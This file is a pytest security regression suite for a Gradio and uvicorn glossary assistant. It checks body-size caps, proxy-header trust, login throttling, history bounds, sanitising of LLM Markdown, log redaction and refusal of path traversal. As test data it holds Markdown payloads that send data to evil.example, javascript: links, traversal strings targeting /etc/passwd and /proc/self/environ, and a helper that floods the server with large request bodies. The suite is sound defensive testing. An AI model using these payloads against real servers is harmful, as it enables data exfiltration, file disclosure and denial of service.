"""The security probe of 2026-11, re-run: each numbered finding as a check on a real server, plus what held up.

Real uvicorn servers around one real Assistant (small corpus, real model). Memory and log checks need a
server process of their own: `glossarian serve` runs as a subprocess there, and its RSS is read from /proc.
Clients bind to different loopback addresses (127.0.0.x) so that rate-limit and login buckets do not mix.
"""
from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from multiprocessing.pool import ThreadPool
from pathlib import Path

import httpx
import pytest

from helpers import copy_entries, free_port
from glossarian.assistant import Assistant
from glossarian.config import Settings
from glossarian.web import create_app, server_config

pytestmark = pytest.mark.slow

ASK = "/api/ask"
TOKEN = "s3cret-token-for-tests"
USER, PASSWORD = "admin", "correct horse battery"
MIB = 1 << 20


# ------------------------------------------------------------------------------------------ servers


@pytest.fixture(scope="module")
def base_settings(tmp_path_factory) -> Settings:
    work = tmp_path_factory.mktemp("security")
    return Settings(home=Path(os.environ["GLOSSARIAN_HOME"]), corpus=copy_entries(work / "corpus"),
                    index=work / "index", rate_limit=0)


@pytest.fixture(scope="module")
def assistant(base_settings) -> Assistant:
    a = Assistant(base_settings)
    a.warm_up()  # builds the small index
    return a


@contextmanager
def in_process(settings: Settings, assistant: Assistant):
    """create_app + the uvicorn configuration `glossarian serve` uses, in a thread; yields the base URL."""
    import uvicorn

    port = free_port()
    server = uvicorn.Server(server_config(settings.with_(port=port), create_app(settings, assistant)))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 60
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(15)


@pytest.fixture
def serve_with(base_settings, assistant):
    stack = []

    def start(**changes) -> str:
        ctx = in_process(base_settings.with_(**changes), assistant)
        stack.append(ctx)
        return ctx.__enter__()

    yield start
    for ctx in reversed(stack):
        ctx.__exit__(None, None, None)


@contextmanager
def subprocess_server(settings: Settings, log_path: Path, **env_vars: str):
    """`python -m glossarian serve` with GLOSSARIAN_* from `env_vars`; yields (url, pid)."""
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GLOSSARIAN_")}
    env.update(GLOSSARIAN_HOME=str(settings.home), GLOSSARIAN_CORPUS=str(settings.corpus),
               GLOSSARIAN_INDEX=str(settings.index), **{f"GLOSSARIAN_{k.upper()}": v for k, v in env_vars.items()})
    with open(log_path, "w") as log:
        proc = subprocess.Popen([sys.executable, "-m", "glossarian", "serve", "--port", str(port)], env=env,
                                stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 180
        while True:
            assert proc.poll() is None, log_path.read_text()
            try:
                if httpx.get(url + "/healthz").json().get("loaded"):
                    break
            except (httpx.HTTPError, ValueError):
                pass
            assert time.monotonic() < deadline, "server did not warm up:\n" + log_path.read_text()
            time.sleep(0.3)
        yield url, proc.pid
    finally:
        proc.terminate()
        proc.wait(20)


LOCKED = dict(api_token=TOKEN, ui_auth=f"{USER}:{PASSWORD}", allowed_origins="http://wiki.example:8088",
              rate_limit="10")


@pytest.fixture(scope="module")
def locked(base_settings, assistant, tmp_path_factory):
    """Probe instance B: token, login, one allowed origin, 10 questions a minute. A process of its own."""
    with subprocess_server(base_settings, tmp_path_factory.mktemp("locked") / "server.log", **LOCKED) as server:
        yield server


def client_from(address: str, **kwargs) -> httpx.Client:
    """An HTTP client whose connections come from `address` (a 127.0.0.x loopback address)."""
    return httpx.Client(transport=httpx.HTTPTransport(local_address=address), timeout=60, **kwargs)


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


@contextmanager
def peak_rss(pid: int):
    """Sample the server's RSS every 10 ms; yields a dict that holds "before" and, afterwards, "peak"."""
    seen = {"before": rss_mib(pid), "peak": 0.0}
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            seen["peak"] = max(seen["peak"], rss_mib(pid))
            time.sleep(0.01)

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        time.sleep(0.3)  # a parse that is still running shows up now
        stop.set()
        thread.join()


def raw_post(url: str, path: str, size: int, chunked: bool, headers: dict | None = None) -> int:
    """POST a `size`-byte JSON-ish body from a socket, the way a hostile client would; the HTTP status.

    The server may answer and close before the body is sent: that is the point, so a broken pipe is fine.
    """
    host, port = url.removeprefix("http://").split(":")
    head = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", "Content-Type: application/json"]
    head += [f"{k}: {v}" for k, v in (headers or {}).items()]
    head.append("Transfer-Encoding: chunked" if chunked else f"Content-Length: {size}")
    block = b'{"data": ["' + b"a" * (MIB - 20) + b'", []]}'[: MIB]
    with socket.create_connection((host, int(port)), timeout=30) as s:
        s.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        try:
            for _ in range(size // MIB):
                s.sendall(b"%x\r\n%s\r\n" % (len(block), block) if chunked else block)
            if chunked:
                s.sendall(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            pass
        try:
            answer = s.recv(200)
        except (ConnectionResetError, socket.timeout):
            return 0
    match = re.match(rb"HTTP/1\.1 (\d{3})", answer)
    return int(match.group(1)) if match else 0


# ------------------------------------------------------------------------------------------ 1. bodies


BODY_ROUTES = ["/gradio_api/queue/join", "/gradio_api/call/chat", "/widget/gradio_api/queue/join",
               "/gradio_api/run/chat"]


def test_big_bodies_without_login_never_reach_memory(locked):
    url, pid = locked
    with peak_rss(pid) as rss:
        posts = [threading.Thread(target=raw_post, args=(url, route, 40 * MIB, chunked))
                 for route, chunked in zip(BODY_ROUTES, (False, True, False, True))]
        for t in posts:
            t.start()
        for t in posts:
            t.join(120)
    print(f"server RSS, 4 x 40 MB bodies without a login: {rss['before']:.0f} -> peak {rss['peak']:.0f} MiB")
    # Before the gate, the same four bodies took the server from 923 to 1397 MiB before Gradio said 401.
    assert rss["peak"] - rss["before"] < 40, rss
    assert raw_post(url, "/gradio_api/queue/join", 2 * MIB, chunked=False) in (0, 401)
    assert httpx.post(url + "/gradio_api/queue/join", json={"data": ["x"]}).status_code == 401


def test_big_bodies_after_login_are_capped_while_streaming(locked):
    url, pid = locked
    with client_from("127.0.0.9", base_url=url) as c:
        assert c.post("/login", data={"username": USER, "password": PASSWORD}).status_code == 200
        cookie = "; ".join(f"{k}={v}" for k, v in c.cookies.items())
        small = c.post("/gradio_api/queue/join", content=b"{" + b" " * 300_000 + b"}",
                       headers={"Content-Type": "application/json"})
        assert small.status_code == 413 and "KiB" in small.json()["error"]
    with peak_rss(pid) as rss:
        for route, chunked in zip(BODY_ROUTES, (True, False, True, False)):
            assert raw_post(url, route, 40 * MIB, chunked, {"Cookie": cookie}) in (0, 413)
        assert raw_post(url, ASK, 40 * MIB, True, {"Authorization": f"Bearer {TOKEN}"}) in (0, 413)
    print(f"server RSS, 5 x 40 MB bodies after login: {rss['before']:.0f} -> peak {rss['peak']:.0f} MiB")
    assert rss["peak"] - rss["before"] < 40, rss


def test_slow_bodies_are_cut_off(serve_with):
    url = serve_with(body_timeout=1.0)
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as s:
        s.sendall(f"POST {ASK} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
                  "Content-Length: 100\r\n\r\n{\"question\"".encode())
        answer = s.recv(200)  # before the gate: no answer at all, the connection just stayed open
    assert answer.startswith(b"HTTP/1.1 408")


# ------------------------------------------------------------------------------------------ 2. proxy trust


def test_spoofed_forwarded_for_does_not_escape_the_rate_limit(locked):
    url, _ = locked
    auth = {"Authorization": f"Bearer {TOKEN}"}
    with client_from("127.0.0.1") as c:  # where a same-host proxy connects from: uvicorn's default trust
        codes = [c.post(url + ASK, json={"question": "什么是 GAP？"},
                        headers={**auth, "X-Forwarded-For": f"10.7.0.{i}"}).status_code for i in range(12)]
    assert codes[:10] == [200] * 10 and codes[10:] == [429, 429], codes


def test_requests_without_the_token_do_not_use_up_the_budget(locked):
    url, _ = locked
    with client_from("127.0.0.3") as c:
        guesses = [c.post(url + ASK, json={"question": "什么是 GAP？"}).status_code for _ in range(12)]
        assert guesses[:10] == [401] * 10 and guesses[10:] == [429, 429]  # guessing stays throttled
        r = c.post(url + ASK, json={"question": "什么是 GAP？"}, headers={"Authorization": f"Bearer {TOKEN}"})
    assert r.status_code == 200, r.text


def test_forwarded_host_is_believed_only_from_a_trusted_proxy(serve_with):
    behind_proxy = {"X-Forwarded-Host": "attacker.example", "X-Forwarded-Proto": "https"}
    url = serve_with()
    assert "attacker.example" not in httpx.get(url + "/config", headers=behind_proxy).json()["root"]
    trusting = serve_with(trusted_proxies="127.0.0.1")
    assert httpx.get(trusting + "/config", headers=behind_proxy).json()["root"] == "https://attacker.example"


def test_host_header_is_checked_when_hosts_are_set(serve_with):
    url = serve_with(allowed_hosts="glossary.example, 127.0.0.1")
    assert httpx.get(url + "/config", headers={"Host": "attacker.example"}).status_code == 400
    assert httpx.post(url + ASK, json={"question": "什么是 GAP？"}, headers={"Host": "attacker.example"}).status_code == 400
    assert httpx.get(url + "/config", headers={"Host": "glossary.example"}).json()["root"] == "http://glossary.example"
    assert httpx.post(url + ASK, json={"question": "什么是 GAP？"}).status_code == 200


# ------------------------------------------------------------------------------------------ 3. login


def test_login_is_throttled_per_client_and_per_user(serve_with):
    url = serve_with(ui_auth=f"{USER}:{PASSWORD}")
    with client_from("127.0.0.4", base_url=url) as c:
        codes = [c.post("/login", data={"username": USER, "password": f"guess-{i}"}).status_code for i in range(20)]
        assert codes[:5] == [400] * 5 and codes[-1] == 429, codes
        right = c.post("/login", data={"username": USER, "password": PASSWORD})
        assert right.status_code == 429 and int(right.headers["retry-after"]) >= 1  # the right one waits too
    with client_from("127.0.0.5", base_url=url) as other:
        assert other.post("/login", data={"username": USER, "password": PASSWORD}).status_code == 429
        assert other.post("/widget/login", data={"username": USER, "password": PASSWORD}).status_code == 429
        assert other.post("/login", data={"username": "someone", "password": "x"}).status_code == 400


def test_short_ui_password_is_refused(base_settings, assistant):
    from glossarian.errors import GlossarianError

    with pytest.raises(GlossarianError, match="shorter than 8"):
        create_app(base_settings.with_(ui_auth="admin:pw"), assistant)


# ------------------------------------------------------------------------------------------ 4 and 8. files


def test_upload_routes_are_refused(serve_with):
    url = serve_with()
    for prefix in ("", "/widget"):
        up = httpx.post(f"{url}{prefix}/gradio_api/upload", files={"files": ("a.txt", b"hello", "text/plain")})
        assert up.status_code == 404, up.text
        assert httpx.get(f"{url}{prefix}/gradio_api/upload_progress?upload_id=x").status_code == 404
        assert httpx.post(f"{url}{prefix}/gradio_api/process_recording", json={}).status_code == 404
        assert httpx.post(f"{url}{prefix}/gradio_api/stream/abc", json={}).status_code == 404


def _figure(url: str) -> str:
    """Ask the chat for a softmax; the URL path of the figure it shows."""
    from gradio_client import Client

    client = Client(url + "/", verbose=False, download_files=False)  # the server's URL, not a local copy
    result = client.predict("softmax of [1, 2, 3] at temperature 0.5", api_name="/respond")
    found = re.search(r"/gradio_api/file=[^'\"\s]+\.png", str(result))
    assert found, result
    return found.group()


def test_figures_are_stored_once_and_only_served_by_their_own_instance(serve_with, locked):
    url = serve_with()
    started = time.time()
    first, second = _figure(url), _figure(url)
    png = httpx.get(url + first)
    assert png.status_code == 200 and png.headers["content-type"] == "image/png"
    assert first == second  # streamed and asked twice, still one file
    tmp = Path(os.environ.get("TMPDIR", "/tmp"))
    copies = [p for pattern in ("*/*.png", "*/*/*.png", "*/*/*/*.png") for p in tmp.glob(pattern)
              if p.stat().st_mtime >= started - 1 and p.stat().st_size == len(png.content)
              and p.read_bytes() == png.content]
    assert len(copies) == 1, copies
    assert copies[0].stat().st_mode & 0o077 == 0 or copies[0].parent.stat().st_mode & 0o077 == 0
    other, _ = locked  # another instance, logged in: the figure is not its file
    with client_from("127.0.0.8", base_url=other) as c:
        assert c.post("/login", data={"username": USER, "password": PASSWORD}).status_code == 200
        assert c.get(first).status_code == 403


def test_figures_expire(tmp_path):
    from glossarian.web.render import FigureStore

    now = [1000.0]
    store = FigureStore(tmp_path / "figures", ttl=600, clock=lambda: now[0])
    old = Path(store.save(b"\x89PNG first"))
    assert Path(store.save(b"\x89PNG first")) == old and old.stem != "first"  # once; a random name
    os.utime(old, (now[0], now[0]))
    now[0] += 601
    new = Path(store.save(b"\x89PNG second"))
    assert new.exists() and not old.exists()
    assert Path(store.save(b"\x89PNG first")).exists()  # asked again: written again


# ------------------------------------------------------------------------------------------ 5. history


def test_huge_history_turn_is_refused_not_scanned(serve_with):
    url = serve_with()
    history = [{"role": "user", "content": "What is a backbone? " * 49_500}]  # 990,000 characters
    r = httpx.post(url + ASK, json={"question": "what is it?", "history": history}, timeout=30)
    assert r.status_code == 413, r.status_code
    assert "8000" in r.json()["error"]
    many = [{"role": "user", "content": "hi"}] * 101
    assert httpx.post(url + ASK, json={"question": "what is it?", "history": many}).status_code == 422
    total = [{"role": "user", "content": "x" * 7000}] * 5
    r = httpx.post(url + ASK, json={"question": "what is it?", "history": total})
    assert r.status_code == 413 and "32000" in r.json()["error"]


def test_largest_allowed_history_is_answered_in_bounded_time(serve_with, base_settings):
    url = serve_with()
    filler = "neck head pooling 颈部 " * 400  # term names everywhere: the most work for follow-up resolution
    turn = ("What is a backbone? " + filler)[: base_settings.history_max_turn_chars]
    history = [{"role": "user", "content": turn}, {"role": "assistant", "content": turn}] * 2
    assert sum(len(t["content"]) for t in history) <= base_settings.history_max_chars
    with ThreadPool(4) as pool:  # four at once stalled every other reader before the bounds
        bodies = pool.map(lambda _: httpx.post(url + ASK, json={"question": "what is it?", "history": history},
                                               timeout=30), range(4))
    assert {b.status_code for b in bodies} == {200}
    assert httpx.get(url + "/healthz", timeout=10).status_code == 200


def test_history_through_the_gradio_api_is_bounded(serve_with):
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    client = Client(serve_with() + "/", verbose=False)
    with pytest.raises(AppError, match="8000 per turn"):
        client.predict("what is it?", [{"role": "user", "content": "backbone " * 1500}], api_name="/chat")


def test_engine_reads_only_recent_clipped_turns(base_settings):
    from glossarian.assistant import Turn
    from glossarian.history import READ_CHARS, READ_TURNS, check_history

    turns = [Turn("user", f"turn {i} " + "x" * 5000) for i in range(6)] * 5
    read = check_history(turns, base_settings.with_(history_max_chars=200_000))
    assert len(read) == READ_TURNS and all(len(t.content) <= READ_CHARS for t in read)
    assert read[-1].content.startswith("turn 5")


# ------------------------------------------------------------------------------------------ 6. LLM Markdown


LLM_MARKDOWN = [
    "![t](http://evil.example/track.png) and ![leak](http://evil.example/collect?d=secret)",
    "see [docs](javascript:alert(1)) and [more](http://evil.example/phish)",
    "[x](mailto:a@b.c) [y](data:text/html,hi) [z](/relative) [w](JaVaScRiPt:alert(1))",
    "[r][ref] and ![i][ref]\n\n[ref]: http://evil.example/ref.png",
    "\\`![t](http://evil.example/t.png)` and \\\\![u](http://evil.example/u.png)",
    "`code ![t](http://evil.example/c.png)` and ``x ` ![d](http://evil.example/d.png) ``",
    "```\n![f](http://evil.example/f.png)\n```\n![g](http://evil.example/g.png)",
    "<img src=http://evil.example/x.png> <a href='javascript:alert(1)'>a</a>",
    "[![i](http://evil.example/i.png)](https://ok.example/) <http://evil.example/auto.png>",
]


@pytest.mark.parametrize("markdown", LLM_MARKDOWN, ids=range(len(LLM_MARKDOWN)))
def test_llm_markdown_renders_without_images_or_odd_links(markdown):
    from markdown_it import MarkdownIt

    from glossarian.web.render import escape_markdown

    html = MarkdownIt("commonmark").render(escape_markdown(markdown))  # a strict renderer, raw HTML allowed
    assert "<img" not in html, html
    assert all(href.startswith(("http://", "https://")) for href in re.findall(r'<a href="([^"]*)"', html)), html
    assert "evil.example/phish" not in markdown or '<a href="http://evil.example/phish">more</a>' in html


def test_pages_forbid_remote_images(serve_with):
    url = serve_with(allowed_origins="http://wiki.example:8088")
    for path, framers in (("/", "'self'"), ("/widget/", "'self' http://wiki.example:8088")):
        csp = httpx.get(url + path).headers["content-security-policy"]
        assert "img-src 'self' data:" in csp and f"frame-ancestors {framers}" in csp, csp


# ------------------------------------------------------------------------------------------ lower findings


def test_api_requires_json_content_type(serve_with):
    url = serve_with()
    for content_type in ("text/plain", "application/x-www-form-urlencoded", None):
        headers = {"Content-Type": content_type} if content_type else {}
        r = httpx.post(url + ASK, content=b'{"question": "What is a backbone?"}', headers=headers)
        assert r.status_code == 415 and "application/json" in r.json()["hint"]


def test_bad_gradio_input_is_4xx(serve_with):
    url = serve_with(rate_limit=3)
    r = httpx.post(url + "/gradio_api/run/chat", json={"data": [123, {"x": 1}]})
    assert r.status_code == 400 and "text" in r.json()["error"]
    r = httpx.post(url + "/gradio_api/run/chat", json={"data": ["   ", []]})
    assert r.status_code == 400 and "empty" in r.json()["error"]
    assert httpx.post(url + "/gradio_api/run/chat", json={"data": ["什么是 GAP？", []]}).status_code == 200
    assert httpx.post(url + "/gradio_api/run/chat", json={"data": ["什么是 GAP？", []]}).status_code == 429


def test_healthz_has_no_paths_for_anonymous_callers(locked, base_settings):
    url, _ = locked
    anonymous = httpx.get(url + "/healthz")
    assert anonymous.json()["loaded"] is True and "index" not in anonymous.json()
    assert str(base_settings.index) not in anonymous.text and str(Path.home()) not in anonymous.text
    admin = httpx.get(url + "/healthz", headers={"Authorization": f"Bearer {TOKEN}"}).json()
    assert admin["index"] == str(base_settings.index)


def test_llm_key_never_reaches_the_log(base_settings, tmp_path):
    from fake_openai_server import FakeOpenAI, http_error

    key = "sk-test-secret-4242"
    fake = FakeOpenAI().start()
    fake.script(*[http_error(401, f"Incorrect API key provided: {key}; headers were Bearer {key}")] * 8)
    log = tmp_path / "server.log"
    try:
        with subprocess_server(base_settings, log, llm_base_url=fake.url, llm_model="fake-model",
                               llm_api_key=key) as (url, _):
            r = httpx.post(url + ASK, json={"question": "什么是 GAP？"}, timeout=60)
            assert r.status_code == 200 and key not in r.text
    finally:
        fake.stop()
    assert fake.requests, "the LLM was never called"
    text = log.read_text()
    assert "LLM unavailable" in text and key not in text, text[-2000:]


# ------------------------------------------------------------------------------------------ what held up


PROTECTED_GETS = ["/config", "/widget/config", "/gradio_api/info", "/widget/gradio_api/info",
                  "/gradio_api/queue/data?session_hash=abcd1234", "/gradio_api/file=/etc/passwd"]
PROTECTED_POSTS = ["/gradio_api/call/chat", "/gradio_api/run/chat", "/gradio_api/api/chat",
                   "/widget/gradio_api/call/chat", "/gradio_api/queue/join", "/widget/gradio_api/queue/join",
                   "/gradio_api/run/predict"]


def test_no_route_answers_without_credentials(locked):
    url, _ = locked
    with client_from("127.0.0.7", base_url=url) as c:
        for path in PROTECTED_GETS:
            assert c.get(path).status_code == 401, path
        for path in PROTECTED_POSTS:
            r = c.post(path, json={"data": ["What is GAP?", []], "fn_index": 0, "session_hash": "abcd1234"})
            assert r.status_code == 401, path
        for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {TOKEN}"}):
            assert c.post(ASK, json={"question": "什么是 GAP？"}, headers=headers).status_code == 401
        assert c.get("/").status_code == 200  # the login page


TRAVERSALS = ["/gradio_api/file=/etc/passwd", "/gradio_api/file=%2fetc%2fpasswd",
              "/gradio_api/file=/tmp/gradio/../../etc/passwd", "/gradio_api/file=/tmp/%2e%2e/etc/passwd",
              "/gradio_api/file=/proc/self/environ", "/gradio_api/file=../../../../etc/passwd",
              "/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/embed.js/../../etc/passwd",
              "/gradio.js%2f..%2f..%2fetc%2fpasswd", "/widget/gradio_api/file=/etc/passwd",
              "/gradio_api/file=http://127.0.0.1:1/healthz", "/gradio_api/file=file:///etc/passwd"]


def test_path_traversal_stays_refused(serve_with):
    url = serve_with()
    with httpx.Client(base_url=url) as c:
        for path in TRAVERSALS:
            r = c.get(path)
            assert r.status_code in (400, 403, 404), (path, r.status_code)
            assert "root:" not in r.text


def test_gradio_client_with_login_still_chats(serve_with):
    from gradio_client import Client

    url = serve_with(ui_auth=f"{USER}:{PASSWORD}")
    with pytest.raises(Exception, match="[Ll]ogin|credentials"):
        Client(url + "/", verbose=False)
    client = Client(url + "/", auth=(USER, PASSWORD), verbose=False)
    assert "[1]" in client.predict("什么是 GAP？", api_name="/chat")
